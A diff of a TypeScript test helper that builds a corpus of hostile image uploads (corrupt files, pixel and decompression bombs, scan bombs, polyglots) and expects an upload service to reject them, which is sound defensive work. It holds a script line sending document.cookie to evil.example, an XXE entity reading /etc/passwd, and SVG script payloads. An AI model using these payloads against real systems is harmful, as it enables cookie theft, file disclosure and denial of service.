@@ -68,7 +68,11 @@ const SHAREPOINT_LIMIT = 5_000_000;
 
 const isHttpGraphLike = (path: UploadPath) => path.startsWith('graph-') || path === 'mail-form' || path === 'cli-photo-set';
 
-const reject = (status?: number, message?: RegExp): Expectation => ({ outcome: 'reject', ...(status && { status }), ...(message && { message }) });
+const reject = (status?: number, message?: RegExp): Expectation => ({
+  outcome: 'reject',
+  ...(status && { status }),
+  ...(message && { message }),
+});
 const accept: Expectation = { outcome: 'accept' };
 const either: Expectation = { outcome: 'either' };
 const everywhere = (e: Expectation) => () => e;
@@ -177,14 +181,26 @@ function zeroPngBomb(width: number, height: number): Buffer {
   ihdr[9] = 0; // greyscale
   const row = Math.ceil(width / 8) + 1;
   const idat = zlib.deflateSync(Buffer.alloc(row * height), { level: 9 });
-  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', ihdr), pngChunk('IDAT', idat), pngChunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    pngChunk('IHDR', ihdr),
+    pngChunk('IDAT', idat),
+    pngChunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 /** An APNG (animated PNG): the default image is frame 0, a second frame follows in fdAT. */
 async function makeApng(): Promise<Buffer> {
   const first = await makePhoto('png', 200, 200, { color: '#2266aa', marker: '#ff0000' });
-  const second = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#00ff00' } }).png().toBuffer();
-  const idatOf = (png: Buffer) => Buffer.concat(pngChunks(png).filter((c) => c.type === 'IDAT').map((c) => png.subarray(c.dataOffset, c.dataOffset + c.length)));
+  const second = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#00ff00' } })
+    .png()
+    .toBuffer();
+  const idatOf = (png: Buffer) =>
+    Buffer.concat(
+      pngChunks(png)
+        .filter((c) => c.type === 'IDAT')
+        .map((c) => png.subarray(c.dataOffset, c.dataOffset + c.length)),
+    );
   const actl = Buffer.alloc(8);
   actl.writeUInt32BE(2, 0);
   const fctl = (sequence: number) => {
@@ -247,11 +263,29 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   const notImage = /not an image/;
 
   // --- nothing at all -------------------------------------------------------------------------
-  add({ name: 'zero bytes', slug: 'zero', ext: 'jpg', bytes: Buffer.alloc(0), expect: (p) => reject(400, p === 'mail-form' ? /Choose a photo/ : /empty/) });
+  add({
+    name: 'zero bytes',
+    slug: 'zero',
+    ext: 'jpg',
+    bytes: Buffer.alloc(0),
+    expect: (p) => reject(400, p === 'mail-form' ? /Choose a photo/ : /empty/),
+  });
   add({ name: 'one byte (0xFF)', slug: 'one-ff', ext: 'jpg', bytes: Buffer.from([0xff]), expect: everywhere(reject(400, notImage)) });
   add({ name: 'one byte (a space)', slug: 'one-space', ext: 'png', bytes: Buffer.from(' '), expect: everywhere(reject(400, notImage)) });
-  add({ name: 'JPEG start-of-image marker only (FF D8)', slug: 'soi2', ext: 'jpg', bytes: Buffer.from([0xff, 0xd8]), expect: everywhere(reject(400)) });
-  add({ name: 'JPEG signature only (FF D8 FF)', slug: 'soi3', ext: 'jpg', bytes: Buffer.from([0xff, 0xd8, 0xff]), expect: everywhere(reject(400, damaged)) });
+  add({
+    name: 'JPEG start-of-image marker only (FF D8)',
+    slug: 'soi2',
+    ext: 'jpg',
+    bytes: Buffer.from([0xff, 0xd8]),
+    expect: everywhere(reject(400)),
+  });
+  add({
+    name: 'JPEG signature only (FF D8 FF)',
+    slug: 'soi3',
+    ext: 'jpg',
+    bytes: Buffer.from([0xff, 0xd8, 0xff]),
+    expect: everywhere(reject(400, damaged)),
+  });
   add({ name: 'PNG signature only', slug: 'png-sig', ext: 'png', bytes: png.subarray(0, 8), expect: everywhere(reject(400, damaged)) });
 
   // --- truncated ------------------------------------------------------------------------------
@@ -265,7 +299,13 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     ['at 90%', Math.floor(jpeg.length * 0.9)],
     ['missing only the EOI marker', jpeg.length - 2],
   ] as const) {
-    add({ name: `truncated JPEG ${label}`, slug: `trunc-jpeg-${cut}`, ext: 'jpg', bytes: jpeg.subarray(0, cut), expect: everywhere(reject(400, damaged)) });
+    add({
+      name: `truncated JPEG ${label}`,
+      slug: `trunc-jpeg-${cut}`,
+      ext: 'jpg',
+      bytes: jpeg.subarray(0, cut),
+      expect: everywhere(reject(400, damaged)),
+    });
   }
   const idat = pngChunks(png).find((c) => c.type === 'IDAT')!;
   for (const [label, cut] of [
@@ -274,30 +314,72 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     ['in the middle of IDAT', idat.dataOffset + Math.floor(idat.length / 2)],
     ['at 90%', Math.floor(png.length * 0.9)],
   ] as const) {
-    add({ name: `truncated PNG ${label}`, slug: `trunc-png-${cut}`, ext: 'png', bytes: png.subarray(0, cut), expect: everywhere(reject(400, damaged)) });
+    add({
+      name: `truncated PNG ${label}`,
+      slug: `trunc-png-${cut}`,
+      ext: 'png',
+      bytes: png.subarray(0, cut),
+      expect: everywhere(reject(400, damaged)),
+    });
   }
   // Every pixel is there, only the end marker is missing: accepting it is as fine as refusing it.
-  add({ name: 'truncated PNG missing only IEND', slug: 'trunc-png-iend', ext: 'png', bytes: png.subarray(0, png.length - 12), expect: everywhere(either) });
+  add({
+    name: 'truncated PNG missing only IEND',
+    slug: 'trunc-png-iend',
+    ext: 'png',
+    bytes: png.subarray(0, png.length - 12),
+    expect: everywhere(either),
+  });
 
   // --- corrupt --------------------------------------------------------------------------------
   {
     const bytes = Buffer.from(jpeg);
     const at = scan.start + Math.floor((scan.end - scan.start) / 3);
     rng.bytes(64).copy(bytes, at);
-    add({ name: 'corrupt JPEG (64 random bytes in the scan data)', slug: 'corrupt-jpeg-scan', ext: 'jpg', bytes, expect: everywhere(reject(400, damaged)) });
+    add({
+      name: 'corrupt JPEG (64 random bytes in the scan data)',
+      slug: 'corrupt-jpeg-scan',
+      ext: 'jpg',
+      bytes,
+      expect: everywhere(reject(400, damaged)),
+    });
     const zeros = Buffer.from(jpeg);
     zeros.fill(0xff, scan.start + 10, scan.start + 400);
-    add({ name: 'corrupt JPEG (scan data overwritten with FF bytes)', slug: 'corrupt-jpeg-ff', ext: 'jpg', bytes: zeros, expect: everywhere(reject(400, damaged)) });
+    add({
+      name: 'corrupt JPEG (scan data overwritten with FF bytes)',
+      slug: 'corrupt-jpeg-ff',
+      ext: 'jpg',
+      bytes: zeros,
+      expect: everywhere(reject(400, damaged)),
+    });
   }
   {
     const bytes = Buffer.from(png);
     rng.bytes(64).copy(bytes, idat.dataOffset + 20);
-    add({ name: 'corrupt PNG (random bytes in IDAT, CRC wrong)', slug: 'corrupt-png-crc', ext: 'png', bytes, expect: everywhere(reject(400, damaged)) });
+    add({
+      name: 'corrupt PNG (random bytes in IDAT, CRC wrong)',
+      slug: 'corrupt-png-crc',
+      ext: 'png',
+      bytes,
+      expect: everywhere(reject(400, damaged)),
+    });
     const fixed = Buffer.from(bytes);
     fixPngCrc(fixed, idat);
-    add({ name: 'corrupt PNG (random bytes in IDAT, CRC fixed)', slug: 'corrupt-png-fixed', ext: 'png', bytes: fixed, expect: everywhere(reject(400, damaged)) });
+    add({
+      name: 'corrupt PNG (random bytes in IDAT, CRC fixed)',
+      slug: 'corrupt-png-fixed',
+      ext: 'png',
+      bytes: fixed,
+      expect: everywhere(reject(400, damaged)),
+    });
   }
-  add({ name: '50 KB of seeded random bytes', slug: 'random', ext: 'jpg', bytes: rng.bytes(50_000), expect: everywhere(reject(400, notImage)) });
+  add({
+    name: '50 KB of seeded random bytes',
+    slug: 'random',
+    ext: 'jpg',
+    bytes: rng.bytes(50_000),
+    expect: everywhere(reject(400, notImage)),
+  });
 
   // --- polyglots ------------------------------------------------------------------------------
   const script = '<html><body><script>fetch("https://evil.example/?c="+document.cookie)</script></body></html>';
@@ -317,9 +399,15 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     expect: everywhere(reject(400, damaged)),
   });
   {
-    const gif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#808080' } }).gif().toBuffer();
+    const gif = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#808080' } })
+      .gif()
+      .toBuffer();
     // GIF89a/*…*/=alert(1)// — the width bytes open a JS comment: a file that is both a GIF and a script.
-    const polyglot = Buffer.concat([Buffer.from('GIF89a/*', 'latin1'), gif.subarray(8), Buffer.from('*/=alert(document.domain);//', 'latin1')]);
+    const polyglot = Buffer.concat([
+      Buffer.from('GIF89a/*', 'latin1'),
+      gif.subarray(8),
+      Buffer.from('*/=alert(document.domain);//', 'latin1'),
+    ]);
     add({ name: 'GIF/JavaScript polyglot', slug: 'gif-js', ext: 'jpg', bytes: polyglot, expect: everywhere(reject(415, /GIF/)) });
   }
   add({
@@ -340,20 +428,80 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   });
 
   // --- pixel bombs and lying dimensions ------------------------------------------------------
-  add({ name: 'pixel bomb: PNG whose IHDR declares 50000×50000 (tiny file)', slug: 'bomb-ihdr', ext: 'png', bytes: pngWithDeclaredSize(png, 50_000, 50_000), expect: everywhere(reject(400, /megapixels/)) });
+  add({
+    name: 'pixel bomb: PNG whose IHDR declares 50000×50000 (tiny file)',
+    slug: 'bomb-ihdr',
+    ext: 'png',
+    bytes: pngWithDeclaredSize(png, 50_000, 50_000),
+    expect: everywhere(reject(400, /megapixels/)),
+  });
   {
     const bomb = zeroPngBomb(20_000, 20_000);
-    add({ name: `pixel bomb: real 20000×20000 1-bit PNG of zeros (${Math.round(bomb.length / 1024)} KB)`, slug: 'bomb-real', ext: 'png', bytes: bomb, expect: everywhere(reject(400, /megapixels/)) });
+    add({
+      name: `pixel bomb: real 20000×20000 1-bit PNG of zeros (${Math.round(bomb.length / 1024)} KB)`,
+      slug: 'bomb-real',
+      ext: 'png',
+      bytes: bomb,
+      expect: everywhere(reject(400, /megapixels/)),
+    });
   }
-  add({ name: 'pixel bomb: JPEG whose SOF declares 65500×65500', slug: 'bomb-sof', ext: 'jpg', bytes: jpegWithDeclaredSize(jpeg, 65_500, 65_500), expect: everywhere(reject(400, /megapixels/)) });
-  add({ name: 'PNG IHDR width 2^31-1 × height 1', slug: 'ihdr-wide', ext: 'png', bytes: pngWithDeclaredSize(png, 0x7fffffff, 1), expect: everywhere(reject(400)) });
+  add({
+    name: 'pixel bomb: JPEG whose SOF declares 65500×65500',
+    slug: 'bomb-sof',
+    ext: 'jpg',
+    bytes: jpegWithDeclaredSize(jpeg, 65_500, 65_500),
+    expect: everywhere(reject(400, /megapixels/)),
+  });
+  add({
+    name: 'PNG IHDR width 2^31-1 × height 1',
+    slug: 'ihdr-wide',
+    ext: 'png',
+    bytes: pngWithDeclaredSize(png, 0x7fffffff, 1),
+    expect: everywhere(reject(400)),
+  });
   add({ name: 'PNG IHDR says 0×0', slug: 'ihdr-zero', ext: 'png', bytes: pngWithDeclaredSize(png, 0, 0), expect: everywhere(reject(400)) });
-  add({ name: 'PNG IHDR says 100×100, data is for 300×300', slug: 'ihdr-smaller', ext: 'png', bytes: pngWithDeclaredSize(png, 100, 100), expect: everywhere(either) });
-  add({ name: 'PNG IHDR says 600×600, data is for 300×300', slug: 'ihdr-larger', ext: 'png', bytes: pngWithDeclaredSize(png, 600, 600), expect: everywhere(reject(400, damaged)) });
-  add({ name: 'PNG IHDR says 6000×6000 (36 MP, under the limit), data is for 300×300', slug: 'ihdr-36mp', ext: 'png', bytes: pngWithDeclaredSize(png, 6000, 6000), expect: everywhere(reject(400, damaged)) });
-  add({ name: 'JPEG SOF says 100×100, scan is for 300×300', slug: 'sof-smaller', ext: 'jpg', bytes: jpegWithDeclaredSize(jpeg, 100, 100), expect: everywhere(either) });
-  add({ name: 'JPEG SOF says 3000×3000, scan is for 300×300', slug: 'sof-larger', ext: 'jpg', bytes: jpegWithDeclaredSize(jpeg, 3000, 3000), expect: everywhere(reject(400, damaged)) });
-  add({ name: 'JPEG SOF says width 0', slug: 'sof-zero', ext: 'jpg', bytes: jpegWithDeclaredSize(jpeg, 0, 300), expect: everywhere(reject(400)) });
+  add({
+    name: 'PNG IHDR says 100×100, data is for 300×300',
+    slug: 'ihdr-smaller',
+    ext: 'png',
+    bytes: pngWithDeclaredSize(png, 100, 100),
+    expect: everywhere(either),
+  });
+  add({
+    name: 'PNG IHDR says 600×600, data is for 300×300',
+    slug: 'ihdr-larger',
+    ext: 'png',
+    bytes: pngWithDeclaredSize(png, 600, 600),
+    expect: everywhere(reject(400, damaged)),
+  });
+  add({
+    name: 'PNG IHDR says 6000×6000 (36 MP, under the limit), data is for 300×300',
+    slug: 'ihdr-36mp',
+    ext: 'png',
+    bytes: pngWithDeclaredSize(png, 6000, 6000),
+    expect: everywhere(reject(400, damaged)),
+  });
+  add({
+    name: 'JPEG SOF says 100×100, scan is for 300×300',
+    slug: 'sof-smaller',
+    ext: 'jpg',
+    bytes: jpegWithDeclaredSize(jpeg, 100, 100),
+    expect: everywhere(either),
+  });
+  add({
+    name: 'JPEG SOF says 3000×3000, scan is for 300×300',
+    slug: 'sof-larger',
+    ext: 'jpg',
+    bytes: jpegWithDeclaredSize(jpeg, 3000, 3000),
+    expect: everywhere(reject(400, damaged)),
+  });
+  add({
+    name: 'JPEG SOF says width 0',
+    slug: 'sof-zero',
+    ext: 'jpg',
+    bytes: jpegWithDeclaredSize(jpeg, 0, 300),
+    expect: everywhere(reject(400)),
+  });
 
   // --- decode-cost bombs ----------------------------------------------------------------------
   // Progressive JPEGs of a few hundred KB whose thousands of nearly empty scans each make the decoder
@@ -378,14 +526,26 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   }
   {
     const bomb = makeScanBombJpeg({ width: 1000, height: 1000, scans: 500, restartInterval: 512 });
-    add({ name: `scan bomb with restart markers: 1000×1000, 500 scans, RSTn every 512 blocks (${kb(bomb)})`, slug: 'scan-bomb-rst', ext: 'jpg', bytes: bomb, expect: everywhere(reject(400, tooManyScans)) });
+    add({
+      name: `scan bomb with restart markers: 1000×1000, 500 scans, RSTn every 512 blocks (${kb(bomb)})`,
+      slug: 'scan-bomb-rst',
+      ext: 'jpg',
+      bytes: bomb,
+      expect: everywhere(reject(400, tooManyScans)),
+    });
   }
   {
     // 0xFF fill bytes may precede any marker; a counter that looks for FF DA pairs only at segment
     // boundaries would miss these scans, the decoder does not.
     const bomb = makeScanBombJpeg({ width: 3000, height: 3000, scans: 1500 });
     const filled = Buffer.from(bomb.toString('latin1').replace(/\xff\xda/g, '\xff\xff\xff\xda'), 'latin1');
-    add({ name: `scan bomb with 0xFF fill bytes before every scan: 3000×3000, 1,500 scans (${kb(filled)})`, slug: 'scan-bomb-fill', ext: 'jpg', bytes: filled, expect: everywhere(reject(400, tooManyScans)) });
+    add({
+      name: `scan bomb with 0xFF fill bytes before every scan: 3000×3000, 1,500 scans (${kb(filled)})`,
+      slug: 'scan-bomb-fill',
+      ext: 'jpg',
+      bytes: filled,
+      expect: everywhere(reject(400, tooManyScans)),
+    });
   }
   add({
     name: 'scan bomb by size: progressive 6000×6000 JPEG with 60 scans (each allowed, too many at that size)',
@@ -396,7 +556,10 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   });
   {
     // A real one (40 MP of 16-bit RGBA, interlaced) decodes in ~2 s from under 500 KB; the header says it all.
-    const deep = await sharp({ create: { width: 64, height: 64, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 0.5 } } }).toColourspace('rgb16').png({ progressive: true }).toBuffer();
+    const deep = await sharp({ create: { width: 64, height: 64, channels: 4, background: { r: 10, g: 200, b: 30, alpha: 0.5 } } })
+      .toColourspace('rgb16')
+      .png({ progressive: true })
+      .toBuffer();
     add({
       name: 'PNG whose IHDR declares 6320×6320 16-bit RGBA, interlaced (39.9 MP, under the pixel limit)',
       slug: 'png-deep-interlaced',
@@ -405,7 +568,13 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
       expect: everywhere(reject(400, /PNG \(16-bit, interlaced\) is too much to decode/)),
     });
   }
-  add({ name: 'progressive 1500×1500 JPEG with 100 scans (the limit)', slug: 'scans-100', ext: 'jpg', bytes: makeScanBombJpeg({ width: 1500, height: 1500, scans: 100 }), expect: everywhere(accept) });
+  add({
+    name: 'progressive 1500×1500 JPEG with 100 scans (the limit)',
+    slug: 'scans-100',
+    ext: 'jpg',
+    bytes: makeScanBombJpeg({ width: 1500, height: 1500, scans: 100 }),
+    expect: everywhere(accept),
+  });
   add({
     name: 'JPEG with a 2,647-scan bomb after its end (EOI): the decoder never reads it',
     slug: 'scan-bomb-after-eoi',
@@ -419,28 +588,64 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     name: 'SVG with <script>',
     slug: 'svg-script',
     ext: 'jpg',
-    bytes: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)"><script>alert(document.cookie)</script><rect width="300" height="300" fill="red"/></svg>'),
+    bytes: Buffer.from(
+      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)"><script>alert(document.cookie)</script><rect width="300" height="300" fill="red"/></svg>',
+    ),
     expect: everywhere(reject(415, /SVG/)),
   });
   add({
     name: 'SVG with a BOM, whitespace and an XXE entity',
     slug: 'svg-xxe',
     ext: 'png',
-    bytes: Buffer.from('\uFEFF\n\n  <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><text y="20">&xxe;</text></svg>'),
+    bytes: Buffer.from(
+      '\uFEFF\n\n  <?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><text y="20">&xxe;</text></svg>',
+    ),
     expect: everywhere(reject(415, /SVG/)),
   });
   add({
     name: 'SVG hidden after 5 KB of XML comment',
     slug: 'svg-late',
     ext: 'jpg',
-    bytes: Buffer.from(`<!--${' '.repeat(5000)}--><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>`),
+    bytes: Buffer.from(
+      `<!--${' '.repeat(5000)}--><svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>`,
+    ),
     expect: everywhere(reject()),
   });
-  add({ name: 'gzipped SVG (svgz)', slug: 'svgz', ext: 'jpg', bytes: zlib.gzipSync('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>'), expect: everywhere(reject()) });
-  add({ name: 'HTML page', slug: 'html', ext: 'jpg', bytes: Buffer.from(`<!doctype html>${script}`), expect: everywhere(reject(400, notImage)) });
-  add({ name: 'JSON document', slug: 'json', ext: 'jpg', bytes: Buffer.from('{"photo": "not really", "__proto__": {"admin": true}}'), expect: everywhere(reject(400, notImage)) });
-  add({ name: 'PDF', slug: 'pdf', ext: 'jpg', bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'), expect: everywhere(reject(415, /PDF/)) });
-  add({ name: 'UTF-16 text with a BOM', slug: 'utf16', ext: 'jpg', bytes: Buffer.from('\uFEFFhello, this is text, not a photo', 'utf16le'), expect: everywhere(reject(400, notImage)) });
+  add({
+    name: 'gzipped SVG (svgz)',
+    slug: 'svgz',
+    ext: 'jpg',
+    bytes: zlib.gzipSync('<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300"><script>alert(1)</script></svg>'),
+    expect: everywhere(reject()),
+  });
+  add({
+    name: 'HTML page',
+    slug: 'html',
+    ext: 'jpg',
+    bytes: Buffer.from(`<!doctype html>${script}`),
+    expect: everywhere(reject(400, notImage)),
+  });
+  add({
+    name: 'JSON document',
+    slug: 'json',
+    ext: 'jpg',
+    bytes: Buffer.from('{"photo": "not really", "__proto__": {"admin": true}}'),
+    expect: everywhere(reject(400, notImage)),
+  });
+  add({
+    name: 'PDF',
+    slug: 'pdf',
+    ext: 'jpg',
+    bytes: Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
+    expect: everywhere(reject(415, /PDF/)),
+  });
+  add({
+    name: 'UTF-16 text with a BOM',
+    slug: 'utf16',
+    ext: 'jpg',
+    bytes: Buffer.from('\uFEFFhello, this is text, not a photo', 'utf16le'),
+    expect: everywhere(reject(400, notImage)),
+  });
 
   // --- huge metadata --------------------------------------------------------------------------
   add({
@@ -453,26 +658,46 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
   });
   {
     // 48 APP1 segments of near-maximal size, the first one a real EXIF block with GPS.
-    const exif = await sharp(jpeg).withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } }).jpeg().toBuffer();
+    const exif = await sharp(jpeg)
+      .withExif({ IFD0: { Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1' } })
+      .jpeg()
+      .toBuffer();
     const app1 = Buffer.alloc(65535 + 2);
     app1[0] = 0xff;
     app1[1] = 0xe1;
     app1.writeUInt16BE(65535, 2);
     Buffer.from('http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>SECRET-XMP GPSLatitude="51,30N"').copy(app1, 4);
     const huge = Buffer.concat([exif.subarray(0, 2), ...Array.from({ length: 48 }, () => app1), exif.subarray(2)]);
-    add({ name: `JPEG with 48 maximal APP1 segments (${(huge.length / 1048576).toFixed(1)} MB of EXIF/XMP)`, slug: 'jpeg-app1', ext: 'jpg', bytes: huge, expect: everywhere(either), mustNotLeak: ['SECRET-OWNER', 'SECRET-XMP', 'GPSLatitude', 'Exif\0'] });
+    add({
+      name: `JPEG with 48 maximal APP1 segments (${(huge.length / 1048576).toFixed(1)} MB of EXIF/XMP)`,
+      slug: 'jpeg-app1',
+      ext: 'jpg',
+      bytes: huge,
+      expect: everywhere(either),
+      mustNotLeak: ['SECRET-OWNER', 'SECRET-XMP', 'GPSLatitude', 'Exif\0'],
+    });
   }
   {
     const icc = Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), rng.bytes(2000)]);
     const app2 = Buffer.concat([Buffer.from([0xff, 0xe2, 0, 0]), icc]);
     app2.writeUInt16BE(icc.length + 2, 2);
-    add({ name: 'JPEG with a corrupt ICC profile (APP2)', slug: 'jpeg-bad-icc', ext: 'jpg', bytes: Buffer.concat([jpeg.subarray(0, 2), app2, jpeg.subarray(2)]), expect: everywhere(either) });
+    add({
+      name: 'JPEG with a corrupt ICC profile (APP2)',
+      slug: 'jpeg-bad-icc',
+      ext: 'jpg',
+      bytes: Buffer.concat([jpeg.subarray(0, 2), app2, jpeg.subarray(2)]),
+      expect: everywhere(either),
+    });
   }
   add({
     name: 'PNG with a 3 MB tEXt chunk',
     slug: 'png-3mb-text',
     ext: 'png',
-    bytes: pngInsert(png, [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(3 * 1024 * 1024, 'SECRET-TEXT ')]))], 'after-ihdr'),
+    bytes: pngInsert(
+      png,
+      [pngChunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), Buffer.alloc(3 * 1024 * 1024, 'SECRET-TEXT ')]))],
+      'after-ihdr',
+    ),
     expect: everywhere(accept),
     mustNotLeak: ['SECRET-TEXT'],
   });
@@ -480,39 +705,120 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     name: 'PNG with a zTXt decompression bomb (64 MB of text in ~64 KB)',
     slug: 'png-ztxt-bomb',
     ext: 'png',
-    bytes: pngInsert(png, [pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024, 'A'), { level: 9 })]))], 'after-ihdr'),
+    bytes: pngInsert(
+      png,
+      [pngChunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024, 'A'), { level: 9 })]))],
+      'after-ihdr',
+    ),
     expect: everywhere(either),
   });
   add({
     name: 'PNG with an iCCP decompression bomb (64 MB profile in ~64 KB)',
     slug: 'png-iccp-bomb',
     ext: 'png',
-    bytes: pngInsert(png, [pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 })]))], 'after-ihdr'),
+    bytes: pngInsert(
+      png,
+      [pngChunk('iCCP', Buffer.concat([Buffer.from('bomb\0\0'), zlib.deflateSync(Buffer.alloc(64 * 1024 * 1024), { level: 9 })]))],
+      'after-ihdr',
+    ),
     expect: everywhere(either),
   });
 
   // --- animated -------------------------------------------------------------------------------
   {
-    const frames = await Promise.all(['#ff0000', '#00ff00', '#0000ff'].map((c) => sharp({ create: { width: 200, height: 200, channels: 3, background: c } }).png().toBuffer()));
+    const frames = await Promise.all(
+      ['#ff0000', '#00ff00', '#0000ff'].map((c) =>
+        sharp({ create: { width: 200, height: 200, channels: 3, background: c } })
+          .png()
+          .toBuffer(),
+      ),
+    );
     const animated = () => sharp(frames, { join: { animated: true } });
-    add({ name: 'animated GIF (3 frames)', slug: 'anim-gif', ext: 'jpg', bytes: await animated().gif({ loop: 0, delay: [100, 100, 100] }).toBuffer(), expect: everywhere(reject(415, /GIF/)) });
-    add({ name: 'animated WebP (3 frames)', slug: 'anim-webp', ext: 'jpg', bytes: await animated().webp({ loop: 0, delay: [100, 100, 100] }).toBuffer(), expect: everywhere(reject(415, /WebP/)) });
+    add({
+      name: 'animated GIF (3 frames)',
+      slug: 'anim-gif',
+      ext: 'jpg',
+      bytes: await animated()
+        .gif({ loop: 0, delay: [100, 100, 100] })
+        .toBuffer(),
+      expect: everywhere(reject(415, /GIF/)),
+    });
+    add({
+      name: 'animated WebP (3 frames)',
+      slug: 'anim-webp',
+      ext: 'jpg',
+      bytes: await animated()
+        .webp({ loop: 0, delay: [100, 100, 100] })
+        .toBuffer(),
+      expect: everywhere(reject(415, /WebP/)),
+    });
   }
-  add({ name: 'animated PNG (APNG, 2 frames): the default image is kept', slug: 'apng', ext: 'png', bytes: await makeApng(), expect: everywhere(accept) });
+  add({
+    name: 'animated PNG (APNG, 2 frames): the default image is kept',
+    slug: 'apng',
+    ext: 'png',
+    bytes: await makeApng(),
+    expect: everywhere(accept),
+  });
 
   // --- colour, depth, orientation, location --------------------------------------------------
   add({
     name: 'CMYK JPEG',
     slug: 'cmyk',
     ext: 'jpg',
-    bytes: await sharp(await makePhoto('jpeg', 400, 400)).toColourspace('cmyk').jpeg().toBuffer(),
+    bytes: await sharp(await makePhoto('jpeg', 400, 400))
+      .toColourspace('cmyk')
+      .jpeg()
+      .toBuffer(),
     expect: everywhere(accept),
   });
-  add({ name: '16-bit PNG', slug: 'png16', ext: 'png', bytes: await sharp(await makePhoto('png', 400, 400)).toColourspace('rgb16').png().toBuffer(), expect: everywhere(accept) });
-  add({ name: 'greyscale JPEG', slug: 'grey', ext: 'jpg', bytes: await sharp(await makePhoto('jpeg', 300, 300)).greyscale().jpeg().toBuffer(), expect: everywhere(accept) });
-  add({ name: 'palette PNG with transparency', slug: 'palette', ext: 'png', bytes: await sharp({ create: { width: 200, height: 200, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 0.3 } } }).png({ palette: true }).toBuffer(), expect: everywhere(accept) });
-  add({ name: 'progressive JPEG', slug: 'progressive', ext: 'jpg', bytes: await sharp(await makePhoto('jpeg', 300, 300)).jpeg({ progressive: true }).toBuffer(), expect: everywhere(accept) });
-  add({ name: 'interlaced PNG', slug: 'interlaced', ext: 'png', bytes: await sharp(await makePhoto('png', 300, 300)).png({ progressive: true }).toBuffer(), expect: everywhere(accept) });
+  add({
+    name: '16-bit PNG',
+    slug: 'png16',
+    ext: 'png',
+    bytes: await sharp(await makePhoto('png', 400, 400))
+      .toColourspace('rgb16')
+      .png()
+      .toBuffer(),
+    expect: everywhere(accept),
+  });
+  add({
+    name: 'greyscale JPEG',
+    slug: 'grey',
+    ext: 'jpg',
+    bytes: await sharp(await makePhoto('jpeg', 300, 300))
+      .greyscale()
+      .jpeg()
+      .toBuffer(),
+    expect: everywhere(accept),
+  });
+  add({
+    name: 'palette PNG with transparency',
+    slug: 'palette',
+    ext: 'png',
+    bytes: await sharp({ create: { width: 200, height: 200, channels: 4, background: { r: 200, g: 0, b: 0, alpha: 0.3 } } })
+      .png({ palette: true })
+      .toBuffer(),
+    expect: everywhere(accept),
+  });
+  add({
+    name: 'progressive JPEG',
+    slug: 'progressive',
+    ext: 'jpg',
+    bytes: await sharp(await makePhoto('jpeg', 300, 300))
+      .jpeg({ progressive: true })
+      .toBuffer(),
+    expect: everywhere(accept),
+  });
+  add({
+    name: 'interlaced PNG',
+    slug: 'interlaced',
+    ext: 'png',
+    bytes: await sharp(await makePhoto('png', 300, 300))
+      .png({ progressive: true })
+      .toBuffer(),
+    expect: everywhere(accept),
+  });
   {
     // Stored landscape, red marker top-left; orientation 6 = display rotated 90° clockwise, so upright
     // the marker is top right. 960×720 → the 648 rendition exists.
@@ -531,7 +837,10 @@ export async function buildHostileCorpus(): Promise<HostileCorpus> {
     slug: 'gps',
     ext: 'jpg',
     bytes: await sharp(await makePhoto('jpeg', 500, 500))
-      .withExif({ IFD0: { Make: 'SECRET-CAM', Copyright: 'SECRET-OWNER' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '51/1 30/1 0/1', GPSLongitudeRef: 'W', GPSLongitude: '0/1 7/1 0/1' } })
+      .withExif({
